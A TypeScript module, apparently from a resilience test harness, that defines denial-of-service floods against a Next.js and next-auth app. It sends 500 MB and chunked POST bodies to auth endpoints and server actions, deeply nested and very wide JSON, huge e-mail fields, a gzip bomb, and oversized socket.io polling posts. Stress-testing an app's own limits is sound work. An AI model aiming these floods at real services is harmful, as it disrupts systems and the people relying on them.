import { gzipSync } from "node:zlib";
import { attacker, lazily } from "./attacker";
import type { Flood } from "./flood";
import { form, many } from "./shots";
import { each, range, Tally } from "./tally";

const unknownFields = (bytes: number) => {
  let body = '{"0":1';
  for (let n = 1; body.length < bytes; n++) body += `,"${n}":1`;
  return `${body}}`;
};

/** Nothing is read beyond the limit; what the systems of both sides have taken by then is 4 MB. */
const requestBytes = 15_000_000;

/** Bodies that are too large, too deep or too many, by nobody. */
export const floodsOfBodies: readonly Flood[] = [
  ...["callback/credentials", "signout", "_log", "signin/credentials"].map(
    (act, n): Flood => ({
      name: `bodies of 500 MB at next-auth's ${act}`,
      ...(n === 0 && { sharp: true }),
      bounds: { requestBytes },
      run: (target, size) =>
        many(target, 20 * size, 20, () => ({
          method: "POST",
          path: `/api/auth/${act}`,
          headers: { ...form, "content-length": String(500_000_000) },
          body: lazily(500_000_000, "email=a&password=b&"),
        })),
    }),
  ),
  {
    name: "bodies of 500 MB without a length",
    sharp: true,
    bounds: { requestBytes },
    run: (target, size) =>
      many(target, 20 * size, 20, (n) => ({
        method: "POST",
        path: ["/api/auth/callback/credentials", "/api/auth/login", "/login", "/api/nothing", "/courses"][n % 5] ?? "/",
        headers: { ...form, "transfer-encoding": "chunked" },
        body: lazily(500_000_000 * size, "email=a&password=b&"),
      })),
  },
  {
    name: "bodies of 200 MB to pages, as server actions",
    sharp: true,
    bounds: { requestBytes },
    run: (target, size) =>
      many(target, 20 * size, 20, (n) => ({
        method: "POST",
        path: ["/login", "/", "/register", "/no-such-page"][n % 4] ?? "/",
        headers: { "next-action": "a".repeat(42), "content-type": n % 2 ? "text/plain;charset=UTF-8" : "multipart/form-data; boundary=x" },
        body: lazily(200_000_000 * size, '--x\r\ncontent-disposition: form-data; name="1_a"\r\n\r\na\r\n'),
      })),
  },
  {
    name: "unknown fields, 500 kB each",
    sharp: true,
    run: (target, size) => {
      const body = unknownFields(500_000);
      return many(target, 100 * size, 20, () => ({ method: "POST", path: "/api/auth/login", body }));
    },
  },
  ...(["[", '{"a":'] as const).map(
    (open): Flood => ({
      name: `JSON that goes deep by ${open}`,
      sharp: true,
      run: (target, size) => {
        const close = open === "[" ? "]" : "}";
        const depth = Math.floor(500_000 / (open.length + 1));
        const body = `${open.repeat(depth)}${open === "[" ? "" : 1}${close.repeat(depth)}`;
        return many(target, 100 * size, 20, () => ({ method: "POST", path: "/api/auth/refresh", body }));
      },
    }),
  ),
  {
    name: "wide JSON of empty lists, 500 kB",
    run: (target, size) => {
      const body = `{"email":[${"[],".repeat(160_000)}0]}`;
      return many(target, 100 * size, 20, () => ({ method: "POST", path: "/api/auth/login", body }));
    },
  },
  {
    name: "an e-mail address of 500 kB",
    run: (target, size) => {
      const bodies = ["a.", "a@", "@", " ", "\t", "a-", "\u00e9"].map((piece) => ({ email: piece.repeat(250_000 / piece.length) }));
      return many(target, 140 * size, 20, (n) => ({ method: "POST", path: "/api/auth/password/forgot", body: bodies[n % bodies.length] }));
    },
  },
  {
    name: "gzip bombs as bodies",
    run: (target, size) => {
      const bomb = gzipSync(Buffer.alloc(200_000_000, 32));
      return many(target, 100 * size, 20, () => ({
        method: "POST",
        path: "/api/auth/login",
        headers: { "content-encoding": "gzip", "content-type": "application/json" },
        body: bomb,
      }));
    },
  },
  {
    name: "polling posts of 500 MB",
    run: async (target, size) => {
      const one = attacker(target.url, 20);
      const tally = new Tally();
      await each(range(20 * size), 20, async () => {
        const { text } = await one.shoot("GET", "/socket.io/?EIO=4&transport=polling", { reads: true });
        const sid = /"sid":"([^"]+)"/.exec(text)?.[1] ?? "";
        const body = lazily(500_000_000 * size, "4a\x1e");
        tally.add(
          (await one.shoot("POST", `/socket.io/?EIO=4&transport=polling&sid=${sid}`, { headers: { "content-type": "text/plain" }, body }))
            .status,
        );
      });
      one.close();
      return tally;
    },
  },
];
